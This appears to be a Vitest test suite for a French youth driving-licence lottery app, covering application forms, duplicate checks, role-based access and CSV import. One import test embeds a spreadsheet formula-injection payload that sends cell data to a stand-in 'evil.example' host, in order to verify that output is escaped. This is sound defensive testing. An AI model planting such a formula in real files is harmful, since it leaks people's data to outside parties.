import { describe, expect, it } from "vitest";
import { signedIn } from "../helpers/app.ts";
import { makeCohort, makeMissionLocale, makeSchool, makeUser, makeYouth, PASSWORD, testDb } from "../helpers/factories.ts";
import { makeApplicant, makeDraw, makeQuota } from "../helpers/lottery-factories.ts";

async function counsellorSetUp() {
  const cohort = await makeCohort();
  const missionLocale = await makeMissionLocale();
  await makeQuota(cohort.id, missionLocale.id, 10);
  const referent = await makeUser("REFERENT", { missionLocaleId: missionLocale.id });
  const as = await signedIn(referent.email, PASSWORD);
  return { cohort, missionLocale, referent, as };
}

let seq = 0;
function applicationForm(cohortId: string, extra: Record<string, string> = {}) {
  seq += 1;
  return {
    cohortId,
    firstName: "Jade",
    lastName: `Moreau${seq}x`,
    birthDate: "2004-02-14",
    gender: "FEMALE",
    email: `jade.moreau${seq}@exemple.fr`,
    phone: `06 11 22 ${String(10 + (seq % 89)).padStart(2, "0")} ${String(seq % 100).padStart(2, "0")}`,
    employmentStatus: "EMPLOYEE",
    professionalProject: "Auxiliaire de vie : visites à domicile en zone rurale",
    avail1From: "17:30",
    avail1To: "20:00",
    avail6From: "08:00",
    avail6To: "12:00",
    lotteryConsent: "on",
    evaluationConsent: "on",
    ...extra,
  };
}

describe("application files", () => {
  it("a new application — by a counsellor — creates the youth with an AUT ref, the file ELIGIBLE, and an audit event", async () => {
    const { cohort, missionLocale, referent, as } = await counsellorSetUp();
    const form = applicationForm(cohort.id);

    const response = await as.agent
      .post("/applications")
      .type("form")
      .send({ ...form, _csrf: as.csrf });

    expect(response.status).toBe(303);
    const id = response.headers.location!.split("/").pop()!;
    const application = await testDb.application.findUniqueOrThrow({ where: { id }, include: { youth: true } });
    expect(application.status).toBe("ELIGIBLE");
    expect(application.youth.ref).toMatch(/^AUT-2026-\d{4,}$/);
    expect(application.youth.missionLocaleId).toBe(missionLocale.id);
    expect(application.youth.referentId).toBe(referent.id);
    expect(application.youth.phone).toMatch(/^06\d{8}$/);
    expect(JSON.parse(application.youth.weeklyAvailability)).toEqual([
      { day: 1, from: "17:30", to: "20:00" },
      { day: 6, from: "08:00", to: "12:00" },
    ]);
    expect(application.youth.lotteryConsentAt).toBeInstanceOf(Date);
    expect(await testDb.auditEvent.count({ where: { entityId: id, action: "APPLICATION_CREATED" } })).toBe(1);
    const page = await as.agent.get(`/applications/${id}`);
    expect(page.text).toContain("Éligibilité au tirage : éligible");
    expect(page.text).toContain("A 22 ans le 01/07/2026, jour du tirage");
  });

  it("new applications — one after the other — get distinct, increasing refs", async () => {
    const { cohort, as } = await counsellorSetUp();
    const refs = [];
    for (let i = 0; i < 2; i += 1) {
      const response = await as.agent
        .post("/applications")
        .type("form")
        .send({ ...applicationForm(cohort.id), _csrf: as.csrf });
      const application = await testDb.application.findUniqueOrThrow({
        where: { id: response.headers.location!.split("/").pop()! },
        include: { youth: true },
      });
      refs.push(application.youth.ref);
    }
    expect(new Set(refs).size).toBe(2);
    expect(Number(refs[1]!.slice(9))).toBe(Number(refs[0]!.slice(9)) + 1);
  });

  it("a new application — with bad input — comes back (422) with French messages beside the fields and what was typed", async () => {
    const { cohort, as } = await counsellorSetUp();
    const response = await as.agent
      .post("/applications")
      .type("form")
      .send({
        ...applicationForm(cohort.id, { firstName: "Élodie", lastName: "", birthDate: "31/02/2004", phone: "123", avail2From: "09:00" }),
        _csrf: as.csrf,
      });
    expect(response.status).toBe(422);
    expect(response.text).toContain("Saisissez le nom.");
    expect(response.text).toContain("Saisissez une date de naissance valide");
    expect(response.text).toContain("numéro de téléphone français");
    expect(response.text).toContain("Indiquez l&#39;heure de début et l&#39;heure de fin");
    expect(response.text).toContain('value="Élodie"');
    expect(response.text).toContain('aria-invalid="true"');
    expect(response.text).toContain("Le tirage au sort.");
  });

  it("a new application — with an unknown field — is refused (422)", async () => {
    const { cohort, as } = await counsellorSetUp();
    const response = await as.agent
      .post("/applications")
      .type("form")
      .send({ ...applicationForm(cohort.id), status: "SELECTED", _csrf: as.csrf });
    expect(response.status).toBe(422);
  });

  it("a possible duplicate — same last name and birth date — is shown before saving, then created only when confirmed", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const existing = await makeApplicant(missionLocale.id, cohort.id, { lastName: "Le Goff", birthDate: new Date("2003-09-09T00:00:00Z") });
    const form = applicationForm(cohort.id, { lastName: "LEGOFF", birthDate: "2003-09-09" });

    const first = await as.agent
      .post("/applications")
      .type("form")
      .send({ ...form, _csrf: as.csrf });
    expect(first.status).toBe(422);
    expect(first.text).toContain("Ce dossier existe peut-être déjà");
    expect(first.text).toContain(existing.youth.ref);
    expect(first.text).toContain("même nom et même date de naissance");
    expect(await testDb.youth.count({ where: { lastName: "LEGOFF" } })).toBe(0);

    const confirmed = await as.agent
      .post("/applications")
      .type("form")
      .send({ ...form, confirmDuplicate: "on", _csrf: as.csrf });
    expect(confirmed.status).toBe(303);
    expect(await testDb.youth.count({ where: { lastName: "LEGOFF" } })).toBe(1);
  });

  it("an edit — that makes the file look like another one — is flagged before saving, then saved only when confirmed", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const existing = await makeApplicant(missionLocale.id, cohort.id, { lastName: "Martin", birthDate: new Date("2002-02-02T00:00:00Z") });
    const created = await as.agent
      .post("/applications")
      .type("form")
      .send({ ...applicationForm(cohort.id, { lastName: "Autre" }), _csrf: as.csrf });
    const id = created.headers.location!.split("/").pop()!;
    const edit = applicationForm(cohort.id, { lastName: "Martin", birthDate: "2002-02-02" });

    const first = await as.agent
      .post(`/applications/${id}`)
      .type("form")
      .send({ ...edit, _csrf: as.csrf });
    expect(first.status).toBe(422);
    expect(first.text).toContain(existing.youth.ref);
    expect(first.text).toContain("Enregistrer quand même");
    expect((await testDb.application.findUniqueOrThrow({ where: { id }, include: { youth: true } })).youth.lastName).toBe("Autre");

    const confirmed = await as.agent
      .post(`/applications/${id}`)
      .type("form")
      .send({ ...edit, confirmDuplicate: "on", _csrf: as.csrf });
    expect(confirmed.status).toBe(303);
    expect((await testDb.application.findUniqueOrThrow({ where: { id }, include: { youth: true } })).youth.lastName).toBe("Martin");
  });

  it("an edit — of the e-mail only — is not flagged against the file itself (same name and birth date)", async () => {
    const { cohort, as } = await counsellorSetUp();
    const created = await as.agent
      .post("/applications")
      .type("form")
      .send({ ...applicationForm(cohort.id), _csrf: as.csrf });
    const id = created.headers.location!.split("/").pop()!;
    const again = await as.agent
      .post(`/applications/${id}`)
      .type("form")
      .send({ ...applicationForm(cohort.id, { email: "nouvelle.adresse@exemple.fr" }), _csrf: as.csrf });
    expect(again.status).toBe(303);
  });

  it("a possible duplicate — in another Mission Locale, same e-mail — is not revealed to the counsellor, but flagged to the coordination", async () => {
    const { cohort, as } = await counsellorSetUp();
    const other = await makeMissionLocale();
    const hidden = await makeApplicant(other.id, cohort.id, { lastName: "Cachée", email: "meme.adresse@exemple.fr" });
    const form = { ...applicationForm(cohort.id, { email: "Meme.Adresse@exemple.fr" }), _csrf: as.csrf };
    const response = await as.agent.post("/applications").type("form").send(form);
    expect(response.status).toBe(303);
    expect(response.text).not.toContain(hidden.youth.ref);

    const admin = await signedIn((await makeUser("ADMIN")).email, PASSWORD);
    const flagged = await admin.agent
      .post("/applications")
      .type("form")
      .send({ ...applicationForm(cohort.id, { email: "meme.adresse@exemple.fr" }), missionLocaleId: other.id, _csrf: admin.csrf });
    expect(flagged.status).toBe(422);
    expect(flagged.text).toContain(hidden.youth.ref);
  });

  it("eligibility — a youth aged 27 on the draw day, without consent — is INELIGIBLE with each reason", async () => {
    const { cohort, as } = await counsellorSetUp();
    const response = await as.agent
      .post("/applications")
      .type("form")
      .send({
        ...applicationForm(cohort.id, { birthDate: "1999-01-15", evaluationConsent: "" }),
        _csrf: as.csrf,
      });
    const id = response.headers.location!.split("/").pop()!;
    expect((await testDb.application.findUniqueOrThrow({ where: { id } })).status).toBe("INELIGIBLE");
    const page = await as.agent.get(`/applications/${id}`);
    expect(page.text).toContain("non éligible");
    expect(page.text).toContain("Aura 27 ans le 01/07/2026, jour du tirage : il faut avoir de 18 à 25 ans.");
    expect(page.text).toContain("L&#39;accord pour l&#39;évaluation et ses enquêtes de suivi n&#39;est pas recueilli.");
  });

  it("the list — as a counsellor — shows only their Mission Locale, filters by status and searches", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const other = await makeMissionLocale();
    const mine = await makeApplicant(missionLocale.id, cohort.id, { lastName: "Visible" });
    const notMine = await makeApplicant(other.id, cohort.id, { lastName: "Invisible" });
    const all = await as.agent.get(`/applications?cohortId=${cohort.id}`);
    expect(all.text).toContain(mine.youth.ref);
    expect(all.text).not.toContain(notMine.youth.ref);
    const search = await as.agent.get(`/applications?q=${encodeURIComponent(mine.youth.ref.toLowerCase())}`);
    expect(search.text).toContain(mine.youth.ref);
    const filtered = await as.agent.get(`/applications?cohortId=${cohort.id}&status=SELECTED`);
    expect(filtered.text).not.toContain(mine.youth.ref);
  });

  it("an application — of another Mission Locale — is 404 to a counsellor (read, edit, update)", async () => {
    const { cohort, as } = await counsellorSetUp();
    const other = await makeMissionLocale();
    const { application } = await makeApplicant(other.id, cohort.id);
    expect((await as.agent.get(`/applications/${application.id}`)).status).toBe(404);
    expect((await as.agent.get(`/applications/${application.id}/edit`)).status).toBe(404);
    expect(
      (
        await as.agent
          .post(`/applications/${application.id}`)
          .type("form")
          .send({ ...applicationForm(cohort.id), _csrf: as.csrf })
      ).status,
    ).toBe(404);
  });

  it("applications — as a school, a youth, the research team — are 403", async () => {
    const { cohort, missionLocale } = await counsellorSetUp();
    const { application, youth } = await makeApplicant(missionLocale.id, cohort.id);
    const school = await makeSchool(missionLocale.id);
    for (const user of [
      await makeUser("SCHOOL", { drivingSchoolId: school.id }),
      await makeUser("YOUTH", { youthId: youth.id }),
      await makeUser("EVALUATOR"),
    ]) {
      const { agent, csrf } = await signedIn(user.email, PASSWORD);
      expect((await agent.get("/applications")).status).toBe(403);
      expect((await agent.get(`/applications/${application.id}`)).status).toBe(403);
      expect(
        (
          await agent
            .post("/applications")
            .type("form")
            .send({ ...applicationForm(cohort.id), _csrf: csrf })
        ).status,
      ).toBe(403);
    }
  });

  it("an edit — of contact details — is saved and audited with the changed fields", async () => {
    const { cohort, as } = await counsellorSetUp();
    const created = await as.agent
      .post("/applications")
      .type("form")
      .send({ ...applicationForm(cohort.id), _csrf: as.csrf });
    const id = created.headers.location!.split("/").pop()!;
    const edit = await as.agent.get(`/applications/${id}/edit`);
    expect(edit.status).toBe(200);
    expect(edit.text).toContain('value="17:30"');

    const response = await as.agent
      .post(`/applications/${id}`)
      .type("form")
      .send({ ...applicationForm(cohort.id, { city: "Olivet", professionalProject: "" }), _csrf: as.csrf });

    expect(response.status).toBe(303);
    const application = await testDb.application.findUniqueOrThrow({ where: { id }, include: { youth: true } });
    expect(application.youth.city).toBe("Olivet");
    expect(application.status).toBe("INELIGIBLE");
    const audit = await testDb.auditEvent.findFirstOrThrow({ where: { entityId: id, action: "APPLICATION_UPDATED" } });
    expect((JSON.parse(audit.details!) as { changed: string[] }).changed).toContain("city");
  });

  it("an edit — of the birth date after the freeze — is refused (422): the frozen list cannot change", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const created = await as.agent
      .post("/applications")
      .type("form")
      .send({ ...applicationForm(cohort.id), _csrf: as.csrf });
    const id = created.headers.location!.split("/").pop()!;
    await testDb.lotteryFreeze.create({ data: { cohortId: cohort.id, missionLocaleId: missionLocale.id, listDigest: "0".repeat(64) } });
    expect((await as.agent.get(`/applications/${id}/edit`)).text).toContain("La liste du tirage est figée");

    const response = await as.agent
      .post(`/applications/${id}`)
      .type("form")
      .send({ ...applicationForm(cohort.id, { birthDate: "2003-01-01" }), _csrf: as.csrf });

    expect(response.status).toBe(422);
    expect(response.text).toContain("ne peut plus changer");
    expect((await testDb.application.findUniqueOrThrow({ where: { id }, include: { youth: true } })).youth.birthDate.toISOString()).toBe(
      "2004-02-14T00:00:00.000Z",
    );
    const phoneChange = await as.agent
      .post(`/applications/${id}`)
      .type("form")
      .send({ ...applicationForm(cohort.id, { phone: "0700000000" }), _csrf: as.csrf });
    expect(phoneChange.status).toBe(303);
  });
});

const HEADER =
  "nom;prenom;date_naissance;genre;email;telephone;code_postal;ville;situation;projet_professionnel;accord_tirage;accord_evaluation";

describe("CSV import", () => {
  it("an import — UTF-8 with BOM, `;` — creates every line in one go, with AUT refs and audit events", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const csv = `\uFEFF${HEADER}\nAlpha;Zoé;14/02/2004;F;zoe.alpha@exemple.fr;06 10 00 00 01;45000;Orléans;JOB_SEEKER;Aide-soignante;oui;oui\nBeta;Yanis;2002-11-03;H;;;45100;Orléans;Apprenti·e;"Boulanger ; horaires de nuit";oui;non\n`;

    const response = await as.agent
      .post("/applications/import")
      .type("form")
      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });

    expect(response.status).toBe(303);
    const youths = await testDb.youth.findMany({
      where: { lastName: { in: ["Alpha", "Beta"] } },
      include: { applications: true },
      orderBy: { lastName: "asc" },
    });
    expect(youths.map((y) => [y.firstName, y.applications[0]!.status, y.employmentStatus])).toEqual([
      ["Zoé", "ELIGIBLE", "JOB_SEEKER"],
      ["Yanis", "INELIGIBLE", "APPRENTICE"],
    ]);
    expect(youths[1]!.professionalProject).toBe("Boulanger ; horaires de nuit");
    expect(youths.every((y) => /^AUT-2026-\d{4,}$/.test(y.ref))).toBe(true);
    expect(
      await testDb.auditEvent.count({
        where: { action: "APPLICATION_CREATED", entityId: { in: youths.map((y) => y.applications[0]!.id) } },
      }),
    ).toBe(2);
  });

  it("an import — of a large file (over 200 kB once form-encoded) — is read, not refused as too big", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const lines = Array.from(
      { length: 1000 },
      (_, i) =>
        `Nom${i};Prénom;14/02/2004;F;personne${i}@exemple.fr;;45000;Orléans;JOB_SEEKER;Projet professionnel assez long pour peser, avec des horaires décalés et des trajets en périphérie;oui;oui`,
    );
    const csv = `${HEADER}\n${lines.join("\n")}\n`;
    expect(new URLSearchParams({ csv }).toString().length).toBeGreaterThan(200 * 1024);

    const response = await as.agent
      .post("/applications/import")
      .type("form")
      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });

    expect(response.status).toBe(303);
    expect(await testDb.youth.count({ where: { lastName: { startsWith: "Nom" }, missionLocaleId: missionLocale.id } })).toBe(1000);
  });

  it("an import — with `,` and no BOM — is read the same way", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const csv = `${HEADER.replaceAll(";", ",")}\nGamma,Luc,01/01/2005,H,,,,,STUDENT,"Électricien, en alternance",oui,oui`;
    const response = await as.agent
      .post("/applications/import")
      .type("form")
      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
    expect(response.status).toBe(303);
    expect((await testDb.youth.findFirstOrThrow({ where: { lastName: "Gamma" } })).professionalProject).toBe("Électricien, en alternance");
  });

  it("an import — with one bad line among good ones — is refused whole (422), reports every bad line and writes nothing", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const before = await testDb.youth.count();
    const csv = [
      HEADER,
      "Delta;Anna;14/02/2004;F;;;;;JOB_SEEKER;Coiffeuse;oui;oui",
      "Epsilon;;14/02/2004;F;;;;;JOB_SEEKER;Coiffeuse;oui;oui",
      "Zeta;Paul;32/13/2004;H;;;;;JOB_SEEKER;Plombier;oui;oui",
      "Eta;Noé;01/01/1990;H;;;;;JOB_SEEKER;Plombier;oui;oui",
      "Delta;Anna;14/02/2004;F;;;;;JOB_SEEKER;Coiffeuse;oui;oui",
    ].join("\r\n");

    const response = await as.agent
      .post("/applications/import")
      .type("form")
      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });

    expect(response.status).toBe(422);
    expect(response.text).toContain("Rien n&#39;a été enregistré");
    expect(response.text).toContain("Champ obligatoire manquant : prénom.");
    expect(response.text).toContain("Date de naissance invalide « 32/13/2004 »");
    expect(response.text).toContain("Âge hors limites : 36 ans");
    expect(response.text).toContain("Doublon de la ligne 2");
    for (const line of [3, 4, 5, 6]) expect(response.text).toContain(`<th scope="row">${line}</th>`);
    expect(await testDb.youth.count()).toBe(before);
  });

  it("an import — a line matching a file already on record — is refused as a duplicate", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const existing = await makeApplicant(missionLocale.id, cohort.id, { lastName: "Theta", birthDate: new Date("2004-02-14T00:00:00Z") });
    const csv = `${HEADER}\nTHETA;Ilan;14/02/2004;H;;;;;JOB_SEEKER;Peintre;oui;oui`;
    const response = await as.agent
      .post("/applications/import")
      .type("form")
      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
    expect(response.status).toBe(422);
    expect(response.text).toContain(`Doublon possible du dossier ${existing.youth.ref}`);
  });

  it("an import — with =HYPERLINK(…) in a field — stores it as typed and prints it escaped", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const injection = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")';
    const csv = `${HEADER}\nIota;Mia;14/02/2004;F;;;;;JOB_SEEKER;"${injection.replaceAll('"', '""')}";oui;oui`;

    const response = await as.agent
      .post("/applications/import")
      .type("form")
      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });

    expect(response.status).toBe(303);
    const youth = await testDb.youth.findFirstOrThrow({ where: { lastName: "Iota" }, include: { applications: true } });
    expect(youth.professionalProject).toBe(injection);
    const page = await as.agent.get(`/applications/${youth.applications[0]!.id}`);
    expect(page.text).toContain("=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;Cliquez&#34;)");
    expect(page.text).not.toContain('=HYPERLINK("http');
  });

  it("a new application — into a stratum already frozen — is refused (422), nothing written", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    await testDb.lotteryFreeze.create({ data: { cohortId: cohort.id, missionLocaleId: missionLocale.id, listDigest: "0".repeat(64) } });
    const response = await as.agent
      .post("/applications")
      .type("form")
      .send({ ...applicationForm(cohort.id, { lastName: "Tardif" }), _csrf: as.csrf });
    expect(response.status).toBe(422);
    expect(await testDb.youth.count({ where: { lastName: "Tardif" } })).toBe(0);
  });

  it("an import — into a stratum already frozen — is refused (422)", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    await testDb.lotteryFreeze.create({ data: { cohortId: cohort.id, missionLocaleId: missionLocale.id, listDigest: "0".repeat(64) } });
    const csv = `${HEADER}\nKappa;Léo;14/02/2004;H;;;;;JOB_SEEKER;Peintre;oui;oui`;
    const response = await as.agent
      .post("/applications/import")
      .type("form")
      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
    expect(response.status).toBe(422);
    expect(await testDb.youth.count({ where: { lastName: "Kappa" } })).toBe(0);
  });

  it("an import — by a counsellor, for another Mission Locale — is refused (422), nothing written", async () => {
    const { cohort, as } = await counsellorSetUp();
    const other = await makeMissionLocale();
    const csv = `${HEADER}\nLambda;Léo;14/02/2004;H;;;;;JOB_SEEKER;Peintre;oui;oui`;
    const response = await as.agent
      .post("/applications/import")
      .type("form")
      .send({ cohortId: cohort.id, missionLocaleId: other.id, csv, _csrf: as.csrf });
    expect(response.status).toBe(422);
    expect(await testDb.youth.count({ where: { lastName: "Lambda" } })).toBe(0);
  });

  it("the import page — links the sample file, which imports cleanly", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const page = await as.agent.get("/applications/import");
    expect(page.text).toContain('href="/public/samples/candidatures.csv"');
    const sample = await as.agent.get("/public/samples/candidatures.csv");
    expect(sample.status).toBe(200);
    const response = await as.agent
      .post("/applications/import")
      .type("form")
      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv: sample.text, _csrf: as.csrf });
    expect(response.status).toBe(303);
  });

  it("the import — as a school or a youth — is 403", async () => {
    const { missionLocale } = await counsellorSetUp();
    const school = await makeSchool(missionLocale.id);
    const youth = await makeYouth(missionLocale.id);
    for (const user of [await makeUser("SCHOOL", { drivingSchoolId: school.id }), await makeUser("YOUTH", { youthId: youth.id })]) {
      const { agent, csrf } = await signedIn(user.email, PASSWORD);
      expect((await agent.get("/applications/import")).status).toBe(403);
      expect((await agent.post("/applications/import").type("form").send({ csv: "x", _csrf: csrf })).status).toBe(403);
    }
  });
});

describe("CSV import: French words and duplicates", () => {
  it("an import — with the words the form shows (Femme, Demandeur d'emploi, OUI, Non) — is accepted and stored as codes", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const csv = `${HEADER}\nOmicron;Zoé;14/02/2004;Femme;;;;;Demandeur d'emploi;Cariste;OUI;Non\nPi;Noé;03/11/2002;h;;;;;salariée;Maçon;o;n`;

    const response = await as.agent
      .post("/applications/import")
      .type("form")
      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });

    expect(response.status).toBe(303);
    const youths = await testDb.youth.findMany({ where: { lastName: { in: ["Omicron", "Pi"] } }, orderBy: { lastName: "asc" } });
    expect(
      youths.map((y) => [y.lastName, y.gender, y.employmentStatus, y.lotteryConsentAt !== null, y.evaluationConsentAt !== null]),
    ).toEqual([
      ["Omicron", "FEMALE", "JOB_SEEKER", true, false],
      ["Pi", "MALE", "EMPLOYEE", true, false],
    ]);
  });

  it("an import — one line repeating an earlier one, another like a youth on record — flags both lines and writes nothing", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const existing = await makeApplicant(missionLocale.id, cohort.id, {
      lastName: "Rhô-Sigma",
      birthDate: new Date("2003-05-05T00:00:00Z"),
    });
    const csv = [
      HEADER,
      "Tau;Léa;14/02/2004;F;lea.tau@exemple.fr;;;;JOB_SEEKER;Coiffeuse;oui;oui",
      "Upsilon;Léa;01/01/2003;F;LEA.TAU@exemple.fr;;;;JOB_SEEKER;Coiffeuse;oui;oui",
      "RHO SIGMA;Ilan;05/05/2003;H;;;;;JOB_SEEKER;Peintre;oui;oui",
    ].join("\n");
    const before = await testDb.youth.count();

    const response = await as.agent
      .post("/applications/import")
      .type("form")
      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });

    expect(response.status).toBe(422);
    expect(response.text).toContain("Doublon de la ligne 2 (même adresse e-mail).");
    expect(response.text).toContain(`Doublon possible du dossier ${existing.youth.ref} (même nom et même date de naissance).`);
    expect(await testDb.youth.count()).toBe(before);
  });

  it("an import — of a line already imported — is flagged against the stored file (dates written as Prisma writes them)", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const csv = `${HEADER}\nPhi;Léa;14/02/2004;F;;;;;JOB_SEEKER;Coiffeuse;oui;oui`;
    const send = () =>
      as.agent
        .post("/applications/import")
        .type("form")
        .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
    expect((await send()).status).toBe(303);
    const stored = await testDb.youth.findFirstOrThrow({
      where: { lastName: "Phi", birthDate: new Date("2004-02-14T00:00:00Z") },
      include: { applications: true },
    });
    expect(stored.applications[0]!.submittedAt).toBeInstanceOf(Date);

    const again = await send();

    expect(again.status).toBe(422);
    expect(again.text).toContain(`Doublon possible du dossier ${stored.ref} (même nom et même date de naissance).`);
  });

  it("the import page — lists the accepted words for each coded column", async () => {
    const { as } = await counsellorSetUp();
    const page = await as.agent.get("/applications/import");
    expect(page.text).toContain("Les valeurs acceptées");
    expect(page.text).toContain("Demandeur d&#39;emploi, Demandeuse d&#39;emploi, JOB_SEEKER");
    expect(page.text).toContain("F, Femme, Féminin, FEMALE");
  });
});

describe("search in the list", () => {
  it("a search — by first and last name in either order, without accents or capitals — finds the youth, whether filed, imported or renamed", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const filed = await as.agent
      .post("/applications")
      .type("form")
      .send({ ...applicationForm(cohort.id, { firstName: "Kévin", lastName: "Dubois" }), _csrf: as.csrf });
    expect(filed.status).toBe(303);
    const csv = `${HEADER}\nN'Diaye-Lefèvre;Éloïse;14/02/2004;F;;;;;JOB_SEEKER;Cariste;oui;oui`;
    await as.agent
      .post("/applications/import")
      .type("form")
      .send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
    const renamed = await as.agent
      .post("/applications")
      .type("form")
      .send({ ...applicationForm(cohort.id, { firstName: "Anne", lastName: "Avant" }), _csrf: as.csrf });
    const renamedId = renamed.headers.location!.split("/").pop()!;
    await as.agent
      .post(`/applications/${renamedId}`)
      .type("form")
      .send({ ...applicationForm(cohort.id, { firstName: "Anaïs", lastName: "Après" }), confirmDuplicate: "on", _csrf: as.csrf });

    const found = async (q: string) => (await as.agent.get(`/applications?q=${encodeURIComponent(q)}`)).text;

    for (const q of ["kevin dubois", "Dubois Kévin", "DUBOIS", "kev"]) expect(await found(q)).toContain("Dubois");
    for (const q of ["eloise ndiaye", "Lefevre", "n'diaye éloïse"]) expect(await found(q)).toContain("Éloïse");
    expect(await found("anais apres")).toContain("Anaïs");
    expect(await found("avant anne")).not.toContain("Anaïs");
    expect(await found("kevin martin")).not.toContain("Dubois");
  });

  it("a search — of `%` or `_` — is literal: it does not match everyone", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const { youth } = await makeApplicant(missionLocale.id, cohort.id, { firstName: "Kévin", lastName: "Dubois" });
    expect((await as.agent.get(`/applications?q=${encodeURIComponent("dubois")}`)).text).toContain(youth.ref);

    for (const q of ["%", "_", "dub%is", "d_bois"]) {
      const page = await as.agent.get(`/applications?q=${encodeURIComponent(q)}`);
      expect(page.status).toBe(200);
      expect(page.text).not.toContain(youth.ref);
    }
  });
});

describe("cohorts open for applications", () => {
  it("the application form — a cohort frozen for this Mission Locale — is not offered; frozen elsewhere only — still offered", async () => {
    const { cohort, missionLocale, as } = await counsellorSetUp();
    const frozenHere = await makeCohort();
    const frozenElsewhere = await makeCohort();
    const other = await makeMissionLocale();
    await testDb.lotteryFreeze.create({ data: { cohortId: frozenHere.id, missionLocaleId: missionLocale.id, listDigest: "0".repeat(64) } });
    await testDb.lotteryFreeze.create({ data: { cohortId: frozenElsewhere.id, missionLocaleId: other.id, listDigest: "0".repeat(64) } });

    for (const path of ["/applications/new", "/applications/import"]) {
      const page = await as.agent.get(path);
      expect(page.text).toContain(`value="${cohort.id}"`);
      expect(page.text).toContain(`value="${frozenElsewhere.id}"`);
      expect(page.text).not.toContain(`value="${frozenHere.id}"`);
    }
  });

  it("a new application — posted for a cohort whose draw is done at this Mission Locale — is refused (422) with a French message, nothing written", async () => {
    const { missionLocale, as } = await counsellorSetUp();
    const cohort = await makeCohort();
    await makeDraw({
      cohortId: cohort.id,
      missionLocaleId: missionLocale.id,
      adminId: (await makeUser("ADMIN")).id,
      applicants: 1,
      seats: 1,
    });

    const response = await as.agent
      .post("/applications")
      .type("form")
      .send({ ...applicationForm(cohort.id, { lastName: "Retardataire" }), _csrf: as.csrf });

    expect(response.status).toBe(422);
    expect(response.text).toContain("La liste du tirage de cette promotion est déjà figée pour cette Mission Locale");
    expect(await testDb.youth.count({ where: { lastName: "Retardataire" } })).toBe(0);
  });
});
